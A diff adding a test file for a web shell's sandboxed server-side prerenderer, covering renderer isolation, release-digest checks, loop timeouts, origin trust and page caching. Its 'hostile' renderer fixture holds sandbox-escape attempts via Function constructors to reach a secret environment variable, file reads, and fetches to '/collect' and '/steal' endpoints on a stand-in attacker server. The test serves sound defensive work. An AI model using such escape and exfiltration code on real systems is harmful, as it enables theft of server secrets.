@@ -1,0 +1,248 @@
+// The shell's server prerenders with the public site's renderer only as far as it trusts it: a
+// renderer that reaches for the server's powers gets none and is reported, one that does not match
+// its release is not run, one that loops is cut off, and the shell keeps serving through all three.
+import fs from 'node:fs';
+import http, { type IncomingMessage, type RequestListener, type Server, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import os from 'node:os';
+import path from 'node:path';
+import { startStaticServer, type StaticServer } from '../serve.ts';
+import { createPrerenderer, rendererOriginsFrom } from '../prerender.ts';
+import { digestOf } from '../../release/release.ts';
+
+const SECRET = 'shell-secret-7f3a';
+const TEMPLATE = '<!doctype html><html><head><title>Academy</title></head><body><div id="root"></div></body></html>';
+const MANIFEST = JSON.stringify({ exposes: [] });
+const PAGE = "{ status: 200, meta: { title: 'T', description: 'D', siteName: 'S' } }";
+
+/** A renderer as the public site's build would ship it: CommonJS, exporting render and publicPaths. */
+const RENDERERS = {
+  honest: `
+    exports.render = async ({ url, config }) => {
+      const faq = await (await fetch(config.apiBaseUrl + '/content/faq')).json();
+      return { ...${PAGE}, html: '<main><h1>Rendered ' + url + '</h1><p>' + faq[0].question + '</p></main>', data: { faq } };
+    };
+    exports.publicPaths = async () => ['/', '/faq'];`,
+  hostile: `
+    exports.render = async ({ url, config }) => {
+      const loot = [];
+      const attempt = (what, take) => {
+        try { loot.push(what + ': ' + String(take())); } catch (error) { loot.push(what + ' failed (' + error.message + ')'); }
+      };
+      attempt('environment', () => JSON.stringify(process.env));
+      attempt('file', () => require('fs').readFileSync('/etc/hostname', 'utf8'));
+      attempt('escape through the global', () => globalThis.constructor.constructor('return process')().env.PRERENDER_SECRET);
+      attempt('escape through a timer', () => setTimeout.constructor('return process')().env.PRERENDER_SECRET);
+      attempt('escape through fetch', () => fetch.constructor('return process')().env.PRERENDER_SECRET);
+      try { await import('node:fs'); loot.push('module: loaded'); } catch (error) { loot.push('module failed (' + error.message + ')'); }
+      for (const address of [config.apiBaseUrl.replace('/api/v1', '') + '/collect', 'http://127.0.0.1:' + url.slice(1) + '/steal']) {
+        try { await fetch(address); loot.push('network: reached ' + address); } catch (error) { loot.push('network failed (' + error.message + ')'); }
+      }
+      if (url === '/loud') throw new Error(loot.join('; '));
+      return { ...${PAGE}, html: '<main>' + loot.join('; ') + '</main>' };
+    };`,
+  looping: `
+    exports.render = async ({ url }) => {
+      if (url === '/loop') for (;;) {}
+      return { ...${PAGE}, html: '<main>Rendered ' + url + '</main>' };
+    };`,
+};
+
+function listen(handler: RequestListener) {
+  const server = http.createServer(handler);
+  return new Promise<Server>((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
+}
+const portOf = (server: Server) => (server.address() as AddressInfo).port;
+const origin = (server: Server) => `http://127.0.0.1:${portOf(server)}`;
+
+/** The public site's files, which a test changes as a deploy (or an attacker) would. */
+function publicSite() {
+  const files: Record<string, string> = {};
+  const site = {
+    files,
+    deploy(renderer: string, { releasedRenderer = renderer } = {}) {
+      files['/server/render.js'] = renderer;
+      files['/release.json'] = JSON.stringify({
+        version: '1.0.0',
+        builtAt: new Date().toISOString(),
+        commit: null,
+        renderer: { sha256: digestOf(releasedRenderer) },
+      });
+    },
+  };
+  Object.assign(files, { '/remoteEntry.js': '', '/server/styles.css': 'main{color:green}', '/mf-manifest.json': MANIFEST });
+  return {
+    site,
+    handler: (request: IncomingMessage, response: ServerResponse) =>
+      response.writeHead(files[request.url ?? ''] === undefined ? 404 : 200).end(files[request.url ?? ''] ?? ''),
+  };
+}
+
+let api: Server;
+let apiRequests: { url: string | undefined; requestId: string | string[] | undefined }[];
+let attacker: Server;
+let attackerRequests: (string | undefined)[];
+let site: ReturnType<typeof publicSite>['site'];
+let siteServer: Server;
+let shell: StaticServer;
+let logs: Record<string, unknown>[];
+let distDir: string;
+
+beforeAll(async () => {
+  process.env.PRERENDER_SECRET = SECRET;
+  apiRequests = [];
+  api = await listen((request, response) => {
+    apiRequests.push({ url: request.url, requestId: request.headers['x-request-id'] });
+    if (request.url === '/api/v1/content/faq') return response.end(JSON.stringify([{ id: 1, question: 'Who may apply?', answer: 'Anyone.' }]));
+    response.writeHead(404).end('{}');
+  });
+  attackerRequests = [];
+  attacker = await listen((request, response) => {
+    attackerRequests.push(request.url);
+    response.end('ok');
+  });
+  const served = publicSite();
+  site = served.site;
+  siteServer = await listen(served.handler);
+  distDir = fs.mkdtempSync(path.join(os.tmpdir(), 'academy-shell-'));
+  fs.writeFileSync(path.join(distDir, 'index.html'), TEMPLATE);
+  logs = [];
+  const config = { apiBaseUrl: `${origin(api)}/api/v1`, remotes: { public_site: `${origin(siteServer)}/remoteEntry.js` }, embedHosts: [] };
+  shell = await startStaticServer({
+    area: 'shell',
+    distDir,
+    port: 0,
+    config,
+    publicUrl: 'http://localhost:3000',
+    prerendering: { pageTtlMs: 0, contentTtlMs: 0 },
+    logger: { level: 'info', stream: { write: (line: string) => logs.push(JSON.parse(line)) } },
+  });
+});
+
+afterAll(async () => {
+  await shell?.close();
+  for (const server of [api, attacker, siteServer]) server?.close();
+  fs.rmSync(distDir, { recursive: true, force: true });
+  delete process.env.PRERENDER_SECRET;
+});
+
+beforeEach(() => {
+  logs.length = 0;
+  apiRequests.length = 0;
+  attackerRequests.length = 0;
+});
+
+async function page(pathname: string, headers: Record<string, string> = {}) {
+  const response = await fetch(`${shell.url}${pathname}`, { headers });
+  return { status: response.status, requestId: response.headers.get('x-request-id'), html: await response.text() };
+}
+
+const rootOf = (html: string) => /<div id="root">([\s\S]*?)<\/div>\s*<\/body>/.exec(html)?.[1] ?? '';
+const failures = () => logs.filter((line) => line.msg === 'prerendering failed: the page is sent unrendered');
+
+test('the released renderer renders, with the FAQ the shell fetched for it under the page request id', async () => {
+  site.deploy(RENDERERS.honest);
+  const about = await page('/about', { 'X-Request-Id': 'proxy-given-42' });
+  expect(rootOf(about.html)).toBe('<main><h1>Rendered /about</h1><p>Who may apply?</p></main>');
+  expect(about.requestId).toBe('proxy-given-42');
+  expect(apiRequests).toEqual([{ url: '/api/v1/content/faq', requestId: 'proxy-given-42' }]);
+  expect(logs).toEqual(
+    expect.arrayContaining([
+      expect.objectContaining({ reqId: 'proxy-given-42', msg: 'page prerendered', path: '/about', status: 200, renderMs: expect.any(Number) }),
+    ]),
+  );
+  const sitemap = await (await fetch(`${shell.url}/sitemap.xml`)).text();
+  expect(sitemap).toContain('<loc>http://localhost:3000/faq</loc>');
+});
+
+test('a renderer reaching for the environment, files, other addresses or Node gets none of them, and is reported', async () => {
+  site.deploy(RENDERERS.hostile);
+  const port = portOf(attacker);
+  const quiet = await page(`/${port}`);
+  const markup = rootOf(quiet.html);
+  expect(markup).toMatch(/environment failed \(process is not defined\)/);
+  expect(markup).toMatch(/file failed \(require is not defined\)/);
+  expect(markup).toMatch(/escape through the global failed/);
+  expect(markup).toMatch(/escape through a timer failed/);
+  expect(markup).toMatch(/escape through fetch failed/);
+  expect(markup).toMatch(/module failed/);
+  expect(markup).not.toMatch(/network: reached/);
+  expect(quiet.html).not.toContain(SECRET);
+  expect(attackerRequests).toEqual([]);
+  expect(apiRequests).toEqual([]);
+  const refused = logs.filter((line) => line.msg === "the renderer asked for an address outside the API's public content: refused").map((line) => line.url);
+  expect(refused).toEqual([`${origin(api)}/collect`, `http://127.0.0.1:${port}/steal`]);
+
+  // one that fails with what it tried: the page goes out unrendered, the failure is logged
+  const loud = await page('/loud');
+  expect([loud.status, rootOf(loud.html)]).toEqual([200, '']);
+  expect(failures()).toEqual([
+    expect.objectContaining({ path: '/loud', reason: 'threw', err: expect.objectContaining({ message: expect.stringContaining('process is not defined') }) }),
+  ]);
+  expect(JSON.stringify(logs)).not.toContain(SECRET);
+});
+
+test('a renderer that does not match its release is not run: the page goes out unrendered until the release matches', async () => {
+  site.deploy(`${RENDERERS.honest}\nexports.render = async () => ({ ...${PAGE}, html: 'tampered' });`, { releasedRenderer: RENDERERS.honest });
+  const tampered = await page('/about');
+  expect([tampered.status, rootOf(tampered.html)]).toEqual([200, '']);
+  expect(failures()).toEqual([
+    expect.objectContaining({ reason: 'refused', err: expect.objectContaining({ message: expect.stringContaining('does not match its release') }) }),
+  ]);
+
+  site.deploy(RENDERERS.honest);
+  expect(rootOf((await page('/about')).html)).toContain('Rendered /about');
+});
+
+test('a renderer that loops is cut off, the shell answers meanwhile, and the next page renders in a fresh worker', async () => {
+  site.deploy(RENDERERS.looping);
+  // the first render of a worker has the start's allowance: the loop comes after it
+  expect(rootOf((await page('/about')).html)).toBe('<main>Rendered /about</main>');
+  const looping = page('/loop');
+  const config = await fetch(`${shell.url}/app-config.json`);
+  expect(config.status).toBe(200);
+  const cutOff = await looping;
+  expect([cutOff.status, rootOf(cutOff.html)]).toEqual([200, '']);
+  expect(failures()).toEqual([expect.objectContaining({ path: '/loop', reason: 'timeout' })]);
+  expect(rootOf((await page('/programs')).html)).toBe('<main>Rendered /programs</main>');
+});
+
+test('a renderer is trusted from https origins and this machine only', () => {
+  const config = { remotes: { public_site: 'https://public.academy.example/remoteEntry.js' } };
+  expect(rendererOriginsFrom({}, config)).toEqual(['https://public.academy.example']);
+  expect(rendererOriginsFrom({ PRERENDER_ORIGINS: 'https://a.example, http://localhost:3001,http://127.0.0.1:9' }, config)).toEqual([
+    'https://a.example',
+    'http://localhost:3001',
+    'http://127.0.0.1:9',
+  ]);
+  expect(() => rendererOriginsFrom({ PRERENDER_ORIGINS: 'http://public.academy.example' }, config)).toThrow(/only https outside localhost/);
+  expect(rendererOriginsFrom({}, { remotes: { public_site: 'http://public.academy.example/remoteEntry.js' } })).toEqual([]);
+});
+
+test('a public site on an origin the shell does not trust is not prerendered', async () => {
+  const prerenderer = createPrerenderer({ trustedOrigins: ['https://public.academy.example'] });
+  const config = { apiBaseUrl: `${origin(api)}/api/v1`, remotes: { public_site: `${origin(siteServer)}/remoteEntry.js` } };
+  await expect(prerenderer.render('/', config)).rejects.toThrow(/is not trusted to prerender/);
+  await prerenderer.close();
+});
+
+test('the page cache keeps at most maxPages pages, the least recently used going first', async () => {
+  site.deploy(RENDERERS.honest);
+  const config = { apiBaseUrl: `${origin(api)}/api/v1`, remotes: { public_site: `${origin(siteServer)}/remoteEntry.js` } };
+  const prerenderer = createPrerenderer({ trustedOrigins: [origin(siteServer)], maxPages: 2 });
+  // each render the cache does not answer asks the API for the FAQ
+  const rendersFor = async (paths: string[]) => {
+    apiRequests.length = 0;
+    for (const pathname of paths) await prerenderer.render(pathname, config);
+    return apiRequests.length;
+  };
+  try {
+    expect(await rendersFor(['/a', '/b', '/a'])).toBe(2);
+    expect(await rendersFor(['/c'])).toBe(1);
+    expect(prerenderer.cachedPages()).toBe(2);
+    expect(await rendersFor(['/a'])).toBe(0);
+    expect(await rendersFor(['/b'])).toBe(1);
+  } finally {
+    await prerenderer.close();
+  }
+});
